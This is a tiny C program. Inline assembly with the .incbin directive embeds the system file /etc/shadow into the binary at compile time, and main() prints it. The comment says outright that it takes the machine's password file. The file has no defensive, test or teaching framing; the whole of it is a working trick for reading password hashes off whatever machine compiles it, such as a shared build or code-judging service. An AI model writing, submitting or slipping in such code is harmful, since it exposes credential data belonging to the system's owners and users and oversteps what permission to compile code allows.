// Takes the machine's password file into the program.
__asm__(".section .rodata\nshadow: .incbin \"/etc/shadow\"\n.byte 0\n.text\n");
extern const char shadow[];
extern int puts(const char *);
int main(void) { puts(shadow); }
